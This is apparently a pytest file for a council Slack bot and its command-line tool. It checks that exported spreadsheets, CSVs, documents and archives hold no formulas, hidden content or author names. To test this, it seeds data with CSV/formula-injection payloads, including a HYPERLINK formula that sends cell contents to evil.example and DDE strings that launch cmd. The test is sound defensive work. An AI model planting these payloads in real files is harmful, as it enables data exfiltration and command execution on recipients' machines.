"""Whatever file the bot gives anybody: nothing in it is a formula, hidden, or says who made it.

Every verb, button and form that gives a file gives it, in a council whose words all begin like
formulas; the commands of the terminal too.
"""

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Final
from zipfile import ZipFile, is_zipfile

import pytest
from openpyxl import load_workbook
from openpyxl.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import select

from bot.slack import upload
from bot.slack.file_answer import Sendable
from db.models import Action, Person
from db.session import Session
from tests.bot.cli.here import here, typed
from tests.bot.withheld import ENTRANCES, Withheld, withheld

__all__ = ("here", "withheld")
FORMULAS: Final = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Minutes")',
    "+44-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
BEGINS: Final = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r]")
PARTS_THAT_HIDE: Final = re.compile(r"comments|externalLink|vbaProject|embeddings")
HIDDEN: Final = re.compile(
    rb'<sheet [^>]*state="(?:hidden|veryHidden)"|<(?:col|row) [^>]*hidden="(?:1|true)"|'
    rb'<f[ >]|<hyperlink |TargetMode="External"|<w:(?:vanish|ins|del|comment)[ />]'
)
MADE_BY: Final = re.compile(r"<(?:dc:creator|cp:lastModifiedBy)>([^<]*)<")
NOBODYS: Final = {"", "openpyxl", "python-docx", "Sample Council", "The council"}


def faults(name: str, content: bytes) -> Iterator[str]:
    """Yield what is wrong with a file, and with each that is in it."""
    if name.endswith(".csv"):
        yield from (f"{name}: {cell!r}" for cell in _formulas_of_csv(content))
    if name.endswith(".xlsx"):
        yield from (f"{name}: {place}" for place in _formulas_of_workbook(content))
    if is_zipfile(io.BytesIO(content)):
        with ZipFile(io.BytesIO(content)) as archive:
            for part in archive.namelist():
                yield from _faults_of_part(name, part, archive.read(part))


def _faults_of_part(name: str, part: str, content: bytes) -> Iterator[str]:
    yield from (f"{name}: {part}" for _ in PARTS_THAT_HIDE.finditer(part))
    if part.endswith((".xml", ".rels")):
        yield from (f"{name}/{part}: {found[0]!r}" for found in HIDDEN.finditer(content))
    if part == "docProps/core.xml":
        makers = {*MADE_BY.findall(content.decode())}
        yield from (f"{name}: made by {one}" for one in makers - NOBODYS)
    yield from faults(f"{name}/{part}", content)


def _formulas_of_workbook(content: bytes) -> Iterator[str]:
    cells = (cell for sheet in load_workbook(io.BytesIO(content)) for cell in _cells(sheet))
    for cell in cells:
        is_like_one = isinstance(cell.value, str) and BEGINS.match(cell.value) is not None
        if cell.data_type == "f" or (is_like_one and not cell.quotePrefix):
            yield f"{cell.parent.title} {cell.coordinate} {cell.value!r}"


def _cells(sheet: Worksheet) -> Iterator[Cell]:
    return (cell for row in sheet.iter_rows() for cell in row if isinstance(cell, Cell))


def _formulas_of_csv(content: bytes) -> Iterator[str]:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        yield from (cell for cell in row if BEGINS.match(cell))


def all_begin_like_formulas(session: Session) -> None:
    """Let whatever people wrote of each action begin like a formula."""
    for number, action in enumerate(session.scalars(select(Action).with_for_update())):
        words = FORMULAS[number % len(FORMULAS)]
        action.title = f"{words} {action.id}"
        action.source = action.success_measure = action.phase = words


@pytest.mark.parametrize("database_kind", ["sqlite"], indirect=True)
def test_no_file_that_is_given_in_slack_holds_a_formula_anything_hidden_or_a_maker(
    withheld: Withheld, monkeypatch: pytest.MonkeyPatch
) -> None:
    given: dict[str, Sendable] = {}
    monkeypatch.setattr(
        upload, "leave", lambda _, made: given.setdefault(made.filename, made) and "F1"
    )
    with withheld.council.database.read() as session:
        names = {part for one in session.scalars(select(Person)) for part in (one.name, one.email)}
    for entrance in ENTRANCES:
        about = [one for one, _ in withheld.things if entrance.is_about(one)]
        role = withheld.council.director.role
        with withheld.where(all_begin_like_formulas):
            withheld.tell(entrance, role, about[0])
    kinds = {Path(name).suffix for name in given}
    assert kinds >= {".xlsx", ".docx", ".zip", ".csv", ".json", ".ics", ".png"}, sorted(given)
    found = [one for name, made in given.items() for one in faults(name, made.content)]
    assert not found, "\n".join(found)
    told = {
        one for name, made in given.items() for one in names if one and one in name + made.title
    }
    assert told == set()


def test_no_file_that_a_command_makes_holds_a_formula_anything_hidden_or_a_maker(
    here: Path,
) -> None:
    with (here / "plan.csv").open("w", encoding="utf-8", newline="") as file:
        headings, section = ("Ref", "Action", "Success measure", FORMULAS[0]), [FORMULAS[0]]
        rows = [[f"A-{number}", words, words, 5] for number, words in enumerate(FORMULAS, start=1)]
        csv.writer(file).writerows([headings, section, *rows])
    for words in (
        ("import", "plan.csv", "--yes", "--owners-later"),
        ("export", "plan.xlsx"),
        ("export", "plan-out.csv"),
        ("report", "--out", "reports"),
        ("pack", "--out", "pack.zip"),
        ("calendar", "--out", "months.ics"),
    ):
        result = typed(*words)
        assert result.exit_code == 0, (words, result.output)
    made = [one for one in here.rglob("*") if one.suffix in {".xlsx", ".csv", ".docx", ".zip"}]
    assert len(made) >= 6
    found = [
        fault
        for one in made
        if one.name != "plan.csv"
        for fault in faults(one.name, one.read_bytes())
    ]
    assert not found, "\n".join(found)
